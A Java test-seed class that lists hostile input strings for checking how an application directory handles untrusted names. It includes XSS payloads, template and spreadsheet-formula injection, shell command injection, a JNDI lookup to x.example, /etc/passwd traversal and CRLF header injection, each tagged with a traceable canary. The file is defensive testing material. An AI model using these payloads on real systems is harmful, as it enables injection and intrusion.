package health.admit.sandbox.seed;

import java.util.List;

/**
 * Texts that break careless programs when shown, exported, logged or pasted. Anybody who
 * may register an application can put them into a directory.
 */
final class HostileTexts {

	private static final List<String> TEXTS = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"'-alert(1)-'", "</title><script>alert(1)</script>", "{{7*7}}", "[[${7*7}]]",
			"__${T(java.lang.Runtime).getRuntime()}__::.x", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1",
			"$(touch X)", "`touch X`", "'; touch X; '", "\"; Remove-Item X", "${jndi:ldap://x.example/a}", "%{if}",
			"${file(\"/etc/passwd\")}", "x\r\nSet-Cookie: a=b", "x\r\nGET http://x.example/ HTTP/1.1", "nul\u0000byte",
			"\u202Eexe.pdf", "zero\u200Dwidth", "\uD83D\uDE80\uD83C\uDFE5", "z" + "\u0301".repeat(200),
			"L" + "o".repeat(4000) + "ng", "   ", "../../etc/passwd", "CON", "a;b,c", "BEGIN:VEVENT", "\\N{BULLET}",
			"null", "undefined", "NaN", "\u05D1\u05D9\u05EA \u05D7\u05D5\u05DC\u05D9\u05DD", "\u0131\u0130iI",
			"javascript:alert(1)", "data:text/html,<script>alert(1)</script>");

	private HostileTexts() {
	}

	static int count() {
		return TEXTS.size();
	}

	/** The text with its own mark, by which a hit can be traced to it. */
	static String of(int index) {
		return TEXTS.get(index) + " canary-" + index;
	}

}
